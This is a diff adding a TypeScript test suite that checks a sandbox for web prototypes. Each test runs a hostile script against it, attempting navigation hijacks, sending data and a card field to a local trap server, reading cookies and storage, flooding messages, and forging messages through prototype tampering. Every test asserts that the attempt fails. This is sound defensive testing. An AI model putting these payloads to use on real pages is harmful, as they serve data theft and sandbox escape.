@@ -1,0 +1,180 @@
+// What a prototype that means harm can do: nothing outside of its frame, and not for long in it.
+import { createServer, type Server } from 'node:http'
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
+import { type Lab, startLab } from '../standins/prototype-lab/start-lab.ts'
+
+const INFO = {
+  kind: 'prototype',
+  name: 'Prototype',
+  pointSize: { width: 400, height: 300 },
+  scale: 1,
+} as const
+
+/** No input of a person may be kept waiting for longer, in milliseconds. */
+const FROZEN_MS = 1_000
+
+let lab: Lab
+let trap: Server
+let trapped: string[]
+let home = ''
+beforeAll(async () => {
+  lab = await startLab()
+  trap = createServer((request, response) => {
+    trapped.push(request.url ?? '')
+    response.end('caught')
+  })
+  trap.on('connection', () => trapped.push('connection'))
+  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve))
+  const address = trap.address()
+  home = typeof address === 'object' && address ? `http://127.0.0.1:${address.port}` : ''
+})
+beforeEach(() => {
+  trapped = []
+})
+afterAll(async () => {
+  await lab?.close()
+  trap?.closeAllConnections()
+  trap?.close()
+})
+
+async function open(script: string, body = ''): Promise<void> {
+  const page = `<!doctype html><title>hostile</title><p id="o"></p>${body}<button style="position:absolute;left:0;top:200px;width:90px;height:40px" onclick="go()">Go</button><script>
+const say = (words) => { o.textContent += words + '; ' }
+const tried = (name, work) => { try { const value = work(); say(name + ' ' + value) } catch (error) { say(name + ' refused') } }
+function go() { ${script} }</script>`
+  await lab.open('index.html', new Map([['index.html', Buffer.from(page)]]), INFO)
+  lab.asked.length = 0
+  await lab.page.evaluate(() => globalThis.lab.frozenMs())
+}
+
+const press = () => lab.perform({ kind: 'tap', point: { x: 40, y: 220 } })
+const words = async () => (await lab.observe()).scene.text
+
+async function isWhole(): Promise<void> {
+  const { page, origin } = lab
+  expect(page.url()).toBe(`${origin}/lab.html`)
+  expect(page.context().pages()).toHaveLength(1)
+  expect(await page.evaluate(() => document.title)).toBe('Lab')
+}
+
+describe('a hostile prototype', () => {
+  it('a hostile prototype cannot move the app, its frame or a new window to another address', async () => {
+    await open(`
+      for (const view of [top, parent, parent.parent]) tried('move', () => { view.location = '${home}/top' })
+      tried('opened', () => open('${home}/window', '_blank'))
+      const link = document.createElement('a'); link.href = '${home}/link'; link.target = '_top'; document.body.append(link); link.click()
+      history.go(-5)`)
+    const outcome = await press()
+    expect(outcome.detail).toContain('outside of the prototype')
+    expect(await words()).toContain('move refused; move refused; move refused; opened null')
+    await isWhole()
+    expect(trapped).toEqual([])
+  })
+
+  it('a hostile prototype that sets its own address is shown again, and nothing was asked for', async () => {
+    await open(`location.href = '${home}/own'`)
+    expect(await press()).toMatchObject({ success: false, outcome: 'refused' })
+    expect((await lab.observe()).scene.title).toBe('hostile')
+    await isWhole()
+    expect(trapped.filter((what) => what !== 'connection')).toEqual([])
+  })
+
+  it('a hostile prototype sends nothing to any host: no request, form, socket, beacon, picture, style or worker', async () => {
+    await open(
+      `
+      fetch('${home}/fetch').catch(() => say('fetch refused'))
+      const xhr = new XMLHttpRequest(); xhr.onerror = () => say('xhr refused'); xhr.open('POST', '${home}/xhr'); xhr.send('x')
+      new WebSocket('${home.replace('http', 'ws')}/socket').onerror = () => say('socket refused')
+      tried('events', () => { new EventSource('${home}/events').onerror = () => say('events refused') })
+      tried('beacon', () => navigator.sendBeacon('${home}/beacon', 'x'))
+      new Image().src = '${home}/image'
+      document.body.style.background = 'url(${home}/style)'
+      for (const name of ['script', 'iframe', 'link', 'object', 'video']) {
+        const part = document.createElement(name); part.rel = 'stylesheet'
+        for (const address of ['src', 'href', 'data']) part.setAttribute(address, '${home}/' + name)
+        document.body.append(part)
+      }
+      const inner = document.createElement('iframe')
+      inner.srcdoc = '<script>fetch("${home}/inner"); new Image().src = "${home}/inner"<' + '/script>'
+      document.body.append(inner)
+      tried('worker', () => new Worker(URL.createObjectURL(new Blob(['fetch("${home}/worker")']))))
+      tried('rtc', () => new RTCPeerConnection())
+      f.submit()`,
+      `<form id="f" action="${home}/form" method="post"><input name="card" value="4111"></form>`,
+    )
+    await press()
+    expect(await words()).toContain('fetch refused')
+    await isWhole()
+    expect(trapped).toEqual([])
+    expect(lab.asked).toEqual([])
+  })
+
+  it('a hostile prototype reads nothing of the app: no storage, cookie, database, document or message', async () => {
+    await lab.page.evaluate(() => localStorage.setItem('secret', 'of the app'))
+    await lab.page.context().addCookies([{ name: 'secret', value: '1', url: lab.origin }])
+    await open(`
+      tried('storage', () => localStorage.getItem('secret'))
+      tried('cookie', () => document.cookie)
+      tried('database', () => indexedDB.open('harness').constructor.name)
+      tried('caches', () => caches.keys().constructor.name)
+      for (const view of [top, parent]) { tried('document', () => view.document.title); tried('name', () => view.lab) }
+      tried('origin', () => origin)
+      navigator.serviceWorker?.getRegistrations?.().then(() => say('workers seen'), () => say('workers refused'))`)
+    await press()
+    const said = await words()
+    expect(said).toContain('storage null; cookie ;')
+    expect(said).toContain('database refused')
+    expect(said).toContain(
+      'document refused; name refused; document refused; name refused; origin null',
+    )
+    expect(said).not.toContain('workers seen')
+  })
+
+  it('a hostile prototype that runs forever leaves the app free, and the run loses its device', async () => {
+    await open('setTimeout(() => { for (;;); }, 50)')
+    await press().catch(() => undefined)
+    await expect(lab.observe()).rejects.toMatchObject({ code: 'device_lost' })
+    expect(await lab.page.evaluate(() => globalThis.lab.frozenMs())).toBeLessThan(FROZEN_MS)
+    await expect.poll(() => lab.page.evaluate(() => globalThis.lab.frames())).toBe(0)
+    await open('say("well")')
+    await press()
+    expect(await words()).toContain('well')
+  })
+
+  it('a hostile prototype that floods the app with messages is taken away', async () => {
+    await open(
+      `const big = 'x'.repeat(100_000); setInterval(() => { for (let at = 0; at < 20; at++) top.postMessage(big, '*') })`,
+    )
+    await press().catch(() => undefined)
+    await expect.poll(() => lab.page.evaluate(() => globalThis.lab.frames())).toBe(0)
+    expect(await lab.page.evaluate(() => globalThis.lab.frozenMs())).toBeLessThan(FROZEN_MS)
+  })
+
+  it('a hostile prototype cannot answer in place of the script of its frame', async () => {
+    await open(`
+      const answer = { id: 1, value: { state: 'ready' }, key: 'guessed', notice: { kind: 'note', once: 'x', text: 'forged' } }
+      for (const view of [top, parent, window]) view.postMessage(answer, '*')
+      const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')
+      Object.defineProperty(MessageEvent.prototype, 'data', { get() { window.stolen = this.currentTarget; return data.get.call(this) } })
+      const post = MessagePort.prototype.postMessage
+      MessagePort.prototype.postMessage = function (message) { window.stolen = this; return post.call(this, { ...message, value: 'forged' }) }
+      setTimeout(() => say(typeof stolen), 100)`)
+    const outcome = await press()
+    expect(outcome.detail).not.toContain('forged')
+    const { scene } = await lab.observe()
+    expect(scene.title).toBe('hostile')
+    expect(scene.text).toContain('undefined')
+  })
+
+  it('a hostile prototype that breaks every native it shares with the script of its frame harms itself alone', async () => {
+    await open(
+      `Array.prototype.map = () => { throw new Error('no') }; Element.prototype.getBoundingClientRect = () => ({}); document.elementFromPoint = null; Promise.prototype.then = null`,
+    )
+    await press().catch(() => undefined)
+    await lab.observe().catch(() => undefined)
+    await isWhole()
+    await open('say("well")')
+    await press()
+    expect(await words()).toContain('well')
+  })
+})
